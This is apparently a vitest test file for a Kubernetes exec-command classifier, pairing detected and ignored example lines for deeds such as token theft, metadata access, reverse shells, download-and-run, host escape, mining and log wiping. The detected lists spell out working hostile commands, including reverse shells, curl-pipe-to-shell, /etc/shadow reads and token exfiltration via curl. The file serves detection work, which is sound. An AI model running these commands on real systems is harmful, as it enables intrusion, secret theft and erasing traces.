/** What command lines do: for each deed such as do it, and such as only look like it. */
import { expect, test } from 'vitest';
import { foldCommand } from '../../../../src/core/rank/command/command.ts';
import { type Deed, deeds, deedsOf } from '../../../../src/core/rank/command/deeds.ts';

const mount = '/var/run/secrets/kubernetes.io/serviceaccount';

/** Command lines as they are typed behind `kubectl exec pod --`; a quoted text is one word. */
const lines: Readonly<Record<Deed, { readonly does: readonly string[]; readonly not: readonly string[] }>> = {
  token: {
    does: [
      `cat ${mount}/token`,
      `/bin/cat /run//secrets/kubernetes.io/./serviceaccount/token`,
      `sh -c 'cd ${mount}; cat t*'`,
      `sh -c 'curl -d @${mount}/token example'`,
      `cat /tmp/../var/run/secrets/azure/tokens/azure-identity-token`,
      `python3 -c 'print(open("${mount}/token").read())'`,
      'sh -c \'cat "$AZURE_FEDERATED_TOKEN_FILE"\'',
    ],
    not: ['cat /app/secrets/kubernetes.iox/token', 'cat /app/token', 'ls /srv/serviceaccount/tokens'],
  },
  credentials: {
    does: [
      'cat /etc/shadow',
      'cat /host/etc/shadow',
      'cat /etc/kubernetes/azure.json',
      'sh -c "cat </etc/shadow"',
      `python3 -c "open('/etc/shadow')"`,
      'tar cf /tmp/x /root/.ssh/id_rsa',
      'cat /home/app/.aws/credentials',
      'ls /root/.kube/config',
      'ls /var/lib/kubelet/pki',
      'cat /run/secrets/db-password',
      'head /root/.azure/msal_token_cache.json',
    ],
    not: [
      'cat /etc/shadows',
      'cat /etc/passwd',
      'cat /srv/etc/shadow',
      'ls /root/.kube/configs',
      `cat ${mount}/token`,
    ],
  },
  environment: {
    does: [
      'cat /proc/1/environ',
      'cat /proc/self/environ',
      "sh -c 'cat /proc/*/environ'",
      'cat /proc/7/task/8/environ',
    ],
    not: ['env', 'cat /proc/1/status', 'cat /proc/environ', 'cat /tmp/environ'],
  },
  metadata: {
    does: [
      'curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token',
      'curl http://2852039166/latest/meta-data/',
      'wget -qO- http://0xa9fea9fe/',
      'curl http://0xa9.0xfe.0xa9.0xfe/',
      'curl http://0251.0376.0251.0376/',
      'curl http://169.254.43518/',
      'curl http://[::ffff:169.254.169.254]/',
      'curl http://[::ffff:a9fe:a9fe]/',
      'curl http://[fd00:ec2::254]/latest',
      'curl http://169.254.169.254.nip.example/',
      'curl http://user@169.254.169.254:80/',
      'nc 169.254.169.254 80',
      'curl metadata.google.internal/computeMetadata/v1/',
      'curl http://metadata/computeMetadata/v1/',
      'curl http://168.63.129.16/machine?comp=goalstate',
      'curl http://2822734096/',
      "sh -c 'curl -s http://169.254.169.254/'",
    ],
    not: [
      'curl http://169.254.169.25/',
      'curl http://1169.254.169.254/',
      'curl http://10.0.0.1/metadata',
      'cat metadata.json',
      'curl http://localhost:8080/metadata',
      'curl http://metadata.shop/x',
    ],
  },
  'reverse-shell': {
    does: [
      'bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"',
      'nc -e /bin/sh 198.51.100.7 4444',
      'ncat 198.51.100.7 443 --sh-exec sh',
      'busybox nc 198.51.100.7 4444 -e sh',
      'sh -c "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 9 >/tmp/f"',
      'socat TCP:198.51.100.7:443 EXEC:sh,pty',
      'sh -c "telnet h 1 | sh | telnet h 2"',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4));os.dup2(s.fileno(),0)'`,
      `perl -e 'use Socket;socket(S,2,1,6);connect(S,$x);exec("sh")'`,
      `php -r '$s=fsockopen("198.51.100.7",4);'`,
      `ruby -rsocket -e 'TCPSocket.new("198.51.100.7",4)'`,
      `awk 'BEGIN{s="/inet/tcp/0/h/4"}'`,
      'pwsh -Command "New-Object System.Net.Sockets.TcpClient(1,2)"',
    ],
    not: [
      'nc -zv db 5432',
      'nc -l 8080',
      'socat - TCP:db:5432',
      'mkfifo /tmp/f',
      "python3 -c 'import socket;print(socket.gethostname())'",
      'ls /dev/tcp',
      'cat /srv/dev/tcp/x/y',
    ],
  },
  'download-and-run': {
    does: [
      'sh -c "curl -fsSL https://x.example.com/i.sh | bash"',
      'bash -c "wget -qO- http://198.51.100.7/a | sh -s -- x | tee /dev/null" ',
      'sh -c "curl x |& sudo sh"',
      `sh -c '$(curl -s http://198.51.100.7/a)'`,
      'bash -c "bash <(curl -s x)"',
      'bash -c \'eval "$(wget -qO- x)"\'',
      'sh -c "`curl -s x`"',
      'sh -c "wget -O /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x"',
      'sh -c "curl -o x h; chmod 755 x; ./x"',
      'sh -c "curl x | python3 -"',
    ],
    not: [
      'curl http://localhost/health',
      'sh -c "curl x | jq ."',
      'sh -c "curl x | grep sh"',
      `sh -c 'echo "$(curl -s x)"'`,
      'sh -c "curl x | sh /opt/format.sh"',
      'sh -c "curl -o x h; chmod 644 x"',
    ],
  },
  download: {
    does: [
      'curl https://x.example.com/a',
      'wget http://198.51.100.7/a',
      'sh -c "cd /tmp; curl -O https://a.b.example.io/x"',
    ],
    not: [
      'curl http://localhost:8080/health',
      'curl http://db.payments:80/',
      'curl http://api.shop.svc.cluster.local/',
      'curl http://10.1.2.3/',
      'echo https://x.example.com/a',
      'curl example.com',
    ],
  },
  'copy-out': {
    does: ['tar cf - /data', 'tar czf - data', 'tar -cf - /x', 'sh -c "tar cf - /data | cat"'],
    not: ['tar xmf - -C /data', 'tar czf /backup/a.tgz /data', 'tar tf -', 'cat tar cf -'],
  },
  'copy-in': {
    does: ['tar xmf - -C /tmp', 'tar -xmf - -C /tmp', 'tar -x'],
    not: ['tar cf - x', 'tar xf /backup/a.tar', 'tar tf x'],
  },
  host: {
    does: [
      'nsenter -t 1 -m -u -i -n -- bash',
      'nsenter --target 1 --mount sh',
      'chroot /host sh',
      'sudo chroot /host',
      '/host/bin/bash',
      'ls /proc/1/root/etc',
      'curl --unix-socket /var/run/docker.sock http://h/',
    ],
    not: ['ls /host', 'cat /proc/11/status', 'cat nsenter.txt', 'ls /hosts/bin/x'],
  },
  miner: {
    does: [
      './xmrig -o pool.example.com:3333',
      'sh -c "cd /tmp && nohup ./xmrig &"',
      '/tmp/.x/kinsing',
      './a -o stratum+tcp://pool.example.com:3333',
      './a --donate-level=1',
    ],
    not: ['cat xmrig.md', './xmrigs', 'grep stratum log'],
  },
  traces: {
    does: [
      'sh -c "history -c"',
      'rm -f /root/.bash_history',
      'rm -rf /var/log/nginx',
      'sh -c "unset HISTFILE; id"',
      'sh -c "export HISTFILE=/dev/null"',
      'env HISTFILE=/dev/null bash',
      'ln -sf /dev/null /root/.bash_history',
      'sh -c "cat /dev/null > /var/log/auth.log"',
      'truncate -s 0 /var/log/syslog',
      'journalctl --vacuum-time=1s',
    ],
    not: [
      'cat /var/log/nginx/access.log',
      'ls /root/.bash_history',
      'rm -rf /tmp/x',
      'rm /srv/var/logs',
      'history',
      'rm /var/logs',
    ],
  },
  encoded: {
    does: [
      'sh -c "echo aWQ= | base64 -d | sh"',
      'sh -c "base64 --decode x | bash -i"',
      `bash -c '$(echo aWQ= | base64 -d)'`,
      'sh -c "echo 6964 | xxd -r -p | sh"',
      'sh -c "openssl enc -d -base64 -in x | sh"',
      `python3 -c 'import base64;exec(base64.b64decode("aWQ="))'`,
      'pwsh -enc aWQ=',
      'powershell.exe -EncodedCommand aWQ=',
    ],
    not: [
      'base64 -d secret.txt',
      'sh -c "cat x | base64 | tee y"',
      'sh -c "base64 -d x | jq ."',
      `python3 -c 'print(1)'`,
      'pwsh -Command x',
    ],
  },
  'attack-tool': {
    does: [
      'nmap -sT 10.0.0.0/24',
      '/tmp/peirates',
      'sh -c "./linpeas.sh -a"',
      'timeout 60 masscan 10.0.0.0/8',
    ],
    not: ['cat nmap.xml', './nmapper', 'kubectl-reconcile', 'ls cdk'],
  },
  'cluster-api': {
    does: [
      'kubectl get secrets',
      '/tmp/kubectl auth can-i --list',
      'curl -k https://kubernetes.default.svc/api',
      'curl -k https://kubernetes.default',
      "sh -c 'curl -k https://$KUBERNETES_SERVICE_HOST/api'",
      'curl -k https://10.0.0.4:10250/pods',
      'crictl ps',
    ],
    not: [
      'curl http://kubernetes.default.example.com/',
      'cat kubectl.txt',
      'curl http://db:1025/',
      'curl http://kubernetes-dashboard/',
    ],
  },
};

/** Words as a shell parts them, as far as the lines above need it. */
const argvOf = (line: string): string[] =>
  [...line.matchAll(/'([^']*)'|"((?:[^"\\]|\\.)*)"|(\S+)/g)].map(
    ([, single, double, bare]) => single ?? double ?? bare ?? '',
  );

const cases = (Object.keys(deeds) as Deed[]).flatMap((deed) => [
  ...lines[deed].does.map((line) => [deed, true, line] as const),
  ...lines[deed].not.map((line) => [deed, false, line] as const),
]);

test.each(cases)('%s %s: %s', (deed, does, line) => {
  expect(deedsOf(argvOf(line)).includes(deed)).toBe(does);
});

test('everyday commands do nothing of the list', () => {
  for (const line of [
    'sh',
    'bash',
    'ls -la /tmp',
    'env',
    'ps aux',
    'df -h',
    'cat /etc/resolv.conf',
    'psql -c "select 1"',
  ])
    expect(deedsOf(argvOf(line))).toEqual([]);
  expect(deedsOf(null)).toEqual([]);
  expect(deedsOf([])).toEqual([]);
});

test('several deeds stand in the order of the table', () => {
  expect(deedsOf(['sh', '-c', `curl http://169.254.169.254/; cat ${mount}/token`])).toEqual([
    'token',
    'metadata',
  ]);
});

/** Long enough that whatever looks at each part once takes milliseconds, and whatever looks again at all before it minutes. */
const long = (word: string): string => word.repeat((1 << 18) / word.length);
const within = (milliseconds: number, work: () => void): void => {
  const start = performance.now();
  work();
  expect(performance.now() - start).toBeLessThan(milliseconds);
};

test.each(['socket ', '$(', '`', '/..', 'a=', '| sh ', '<(curl ', "'", '169.254.', '/proc/', 'exec '])(
  'a long line of %j is looked at within moments',
  (word) => {
    within(3_000, () => deedsOf(['sh', '-c', long(word)]));
  },
);

test.each([
  ['tar', 'c', 'x', '-c', '-x'],
  ['chmod', '1', '7', 'u', '+x', '+r', 'ugoa'],
  ['curl', '1', 'a', '-c', 'a://', 'http://[', '@', 'a.', '10.', '::'],
  ['nc', '-e', 'ec', '-c'],
  ['socat', 'exec', 'exec:', 'system'],
  ['base64', '-d', 'd'],
  ['xxd', '-r', 'r'],
  ['python3', 'socket', 'exec', 'b64decode', '-s', 's', '/inet/'],
  ['history', '-c', 'w'],
  ['unset', 'HIST', 'H'],
  ['rm', '/var/log', '.bash', 'HISTFILE'],
  ['env', 'a', '1', '1.', '1.1', '-u', 'a=', '_'],
  ['cat', '/etc/', '=/host', '/host-', '/proc/1', '/secrets/', 'kubernetes', '/./', '//', '/a/..'],
  ['unknown', 'metadata.', 'stratum', 'stratum1+', 'kubernetes.default.', ':1', '-a', '--a', '{', 'A1'],
])('no word behind %s is slow to look at', (program, ...words) => {
  for (const word of words)
    for (const end of ['', '!'])
      within(3_000, () => {
        const argv = [program, long(word) + end];
        deedsOf(argv);
        foldCommand(argv);
      });
});
